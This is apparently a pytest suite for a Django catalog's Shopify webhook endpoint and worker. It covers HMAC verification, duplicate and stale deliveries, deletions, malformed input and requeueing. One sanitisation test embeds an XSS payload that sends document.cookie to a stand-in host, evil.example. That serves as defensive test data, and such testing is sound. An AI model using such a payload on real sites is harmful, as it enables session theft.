"""A connected shop's product webhooks, sent as Shopify sends them over real HTTP, applied by a
real worker: the catalog follows the shop, and nothing unsigned, repeated or stale gets in."""

import json
import threading
import time
from collections.abc import Callable
from datetime import timedelta
from decimal import Decimal

import pytest
from django.db import transaction
from django.test import Client

from catalog.models import Product, ProductImage, ProductImageSource
from integrations.models import ShopifyWebhookReceipt
from integrations.shopify.webhooks import webhooks_requeue_pending
from tests.support.protocols.shopify import ShopifyShop, changed, product_payload

Outcome = ShopifyWebhookReceipt.Outcome


def _price(sku: str) -> tuple[Decimal, Decimal | None]:
    product = Product.objects.get(sku=sku)
    return product.price, product.compare_at_price


@pytest.mark.worker
@pytest.mark.usefixtures("shopify_worker")
def test_a_signed_update_changes_the_price_once_and_never_goes_back(
    shop: ShopifyShop, wait_until_applied: Callable[[], None]
) -> None:
    jacket = product_payload(sku="JACKET-M", price="129.00")
    assert shop.product_created(jacket).json() == {"status": "queued"}
    wait_until_applied()
    assert _price("JACKET-M") == (Decimal("129.00"), None)

    # The merchant cut the price to 119.00, then put the jacket on sale at 99.00; the first
    # change's delivery failed and is retried later.
    cut = changed(jacket, price="119.00")
    on_sale = changed(cut, price="99.00", compare_at_price="129.00")
    answer = shop.product_updated(on_sale)
    # Shopify waits five seconds; the endpoint only records the delivery.
    assert answer.status_code == 200 and answer.elapsed < timedelta(seconds=5)
    wait_until_applied()
    assert _price("JACKET-M") == (Decimal("99.00"), Decimal("129.00"))

    # Shopify delivers at least once: the same webhook id again (even with another body,
    # signed correctly) is acknowledged and nothing is done twice.
    repeat_id = shop.sent[-1].headers["X-Shopify-Webhook-Id"]
    repeat = shop.product_updated(changed(on_sale, price="1.00"), webhook_id=repeat_id)
    assert (repeat.status_code, repeat.json()) == (200, {"status": "duplicate"})
    assert ShopifyWebhookReceipt.objects.filter(webhook_id=repeat_id).count() == 1

    # The retry of the older change arrives late: it does not undo the sale.
    late = shop.product_updated(cut)
    assert late.json() == {"status": "queued"}
    wait_until_applied()
    assert ShopifyWebhookReceipt.objects.order_by("-pk").first().outcome == Outcome.STALE  # type: ignore[union-attr]
    assert _price("JACKET-M") == (Decimal("99.00"), Decimal("129.00"))
    assert ShopifyWebhookReceipt.objects.count() == 3


@pytest.mark.worker
@pytest.mark.usefixtures("shopify_worker")
def test_a_created_product_is_imported_with_safe_text_and_its_images_fetched_by_the_worker(
    shop: ShopifyShop, image_host: str, wait_until_applied: Callable[[], None]
) -> None:
    payload = product_payload(
        handle="trail-mug",
        title="Trail Mug",
        sku="MUG-01",
        price="18.00",
        body_html=(
            "<p>Enamel <b>camp</b> mug.</p><script>fetch('https://evil.example/?c='+document"
            ".cookie)</script><img src=x onerror=alert(1)><p>Holds 350&nbsp;ml.</p>"
        ),
        images=[f"{image_host}/mug-front.jpg", f"{image_host}/mug-side.jpg"],
        tags="camp, Camp, kitchen",
    )
    assert shop.product_created(payload).json() == {"status": "queued"}
    wait_until_applied()

    mug = Product.objects.get(merchant__slug="northfold", sku="MUG-01")
    assert (mug.title, mug.price, mug.category) == (
        "Trail Mug",
        Decimal("18.00"),
        "Apparel > Outerwear",
    )
    assert mug.description == "Enamel camp mug.\nHolds 350 ml."
    assert "<" not in mug.description and "cookie" not in mug.description
    assert mug.tags == ["camp", "kitchen"]
    assert mug.attributes["shopify_id"] == str(payload["id"])
    assert [v["sku"] for v in mug.attributes["variants"]] == ["MUG-01", "MUG-01-L"]
    sources = list(ProductImageSource.objects.filter(product=mug).order_by("position"))
    assert [(s.url, s.alt) for s in sources] == [
        (f"{image_host}/mug-front.jpg", "Trail Mug, view 1"),
        (f"{image_host}/mug-side.jpg", "Trail Mug, view 2"),
    ]
    # The worker fetched them through the safe fetcher, as it does an import's images.
    _wait_for_images(mug)
    assert ProductImage.objects.filter(product=mug).count() == 2


def _wait_for_images(product: Product) -> None:
    deadline = time.monotonic() + 60
    while ProductImageSource.objects.filter(product=product, status="pending").exists():
        assert time.monotonic() < deadline, "the worker did not fetch the images"
        time.sleep(0.2)
    assert set(ProductImageSource.objects.values_list("status", flat=True)) == {"fetched"}


@pytest.mark.worker
@pytest.mark.usefixtures("shopify_worker")
def test_a_deleted_product_is_gone_and_the_storefront_answers_404(
    shop: ShopifyShop, wait_until_applied: Callable[[], None]
) -> None:
    tent = product_payload(handle="ridge-tent", title="Ridge Tent", sku="TENT-2P", price="349.00")
    shop.product_created(tent)
    wait_until_applied()
    assert Product.objects.filter(sku="TENT-2P").exists()

    assert shop.product_deleted(tent["id"]).json() == {"status": "queued"}
    wait_until_applied()
    assert not Product.objects.filter(sku="TENT-2P").exists()
    answer = Client().get("/api/v1/videos/northfold/TENT-2P")
    assert answer.status_code == 404 and answer["Content-Type"].startswith("application/json")

    # An update retried after the delete does not bring the product back.
    shop.product_updated(changed(tent, price="299.00"))
    wait_until_applied()
    assert not Product.objects.filter(sku="TENT-2P").exists()
    assert ShopifyWebhookReceipt.objects.order_by("-pk").first().outcome == Outcome.STALE  # type: ignore[union-attr]


def _nothing_recorded() -> bool:
    return not ShopifyWebhookReceipt.objects.exists() and not Product.objects.exists()


def test_a_body_altered_after_signing_is_refused_and_changes_nothing(shop: ShopifyShop) -> None:
    payload = product_payload(price="129.00")
    cheaper = json.dumps(changed(payload, price="1.00")).encode()
    answer = shop.product_created(payload, tamper=cheaper)
    assert answer.status_code == 401 and "X-Shopify-Hmac-Sha256" in answer.json()["error"]
    assert shop.product_created(payload, secret="another-shops-secret").status_code == 401
    assert _nothing_recorded()


def test_a_shop_no_merchant_connected_is_404(shop: ShopifyShop) -> None:
    stranger = ShopifyShop(
        domain="stranger.myshopify.com", secret=shop.secret, address=shop.address
    )
    answer = stranger.product_created(product_payload())
    assert answer.status_code == 404
    assert _nothing_recorded()


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"<html>not json</html>", "not JSON"),
        (b"[1, 2, 3]", "not a JSON object"),
        (b'{"title": "No id"}', "no id"),
        (b"\xff\xfe\x00", "not JSON"),
    ],
)
def test_a_malformed_body_is_400_and_changes_nothing(
    shop: ShopifyShop, raw: bytes, reason: str
) -> None:
    answer = shop.deliver("products/update", None, raw=raw)
    assert answer.status_code == 400 and reason in answer.json()["error"]
    assert _nothing_recorded()


def test_a_topic_the_catalog_does_not_follow_is_acknowledged_and_dropped(
    shop: ShopifyShop,
) -> None:
    answer = shop.deliver("orders/create", {"id": 820982911946154508, "total_price": "199.00"})
    assert (answer.status_code, answer.json()["status"]) == (200, "ignored")
    assert _nothing_recorded()


def test_an_oversized_body_is_413(shop: ShopifyShop) -> None:
    huge = product_payload(body_html="<p>" + "x" * (5 * 1024 * 1024) + "</p>")
    assert shop.product_created(huge).status_code == 413
    assert _nothing_recorded()


def test_the_same_delivery_sent_at_once_is_recorded_once(shop: ShopifyShop) -> None:
    """Repeats racing each other: the unique constraint lets exactly one through."""
    payload = product_payload()
    answers: list[str] = []

    def send() -> None:
        answers.append(
            shop.product_updated(payload, webhook_id="b54557e4-same-delivery").json()["status"]
        )

    threads = [threading.Thread(target=send) for _ in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(answers) == ["duplicate"] * 5 + ["queued"]
    assert ShopifyWebhookReceipt.objects.count() == 1


def test_a_delivery_whose_task_was_lost_is_queued_again_by_the_sweep(
    shop: ShopifyShop,
    django_capture_on_commit_callbacks,  # type: ignore[no-untyped-def]
) -> None:
    shop.product_created(product_payload(sku="LOST-1"))
    receipt = ShopifyWebhookReceipt.objects.get()
    assert receipt.outcome == Outcome.PENDING
    # Just recorded: its own task is still on its way.
    assert webhooks_requeue_pending() == 0

    later = receipt.received_at + timedelta(minutes=6)
    with transaction.atomic():  # the task is queued once this commits
        with django_capture_on_commit_callbacks() as callbacks:
            assert webhooks_requeue_pending(now=later) == 1
        assert [(cb.args[0], cb.keywords["args"]) for cb in callbacks] == [
            ("integrations.shopify_webhook", (receipt.pk,))
        ]
    # A day on, it is left for a person (the admin lists it as pending).
    assert webhooks_requeue_pending(now=receipt.received_at + timedelta(days=2)) == 0
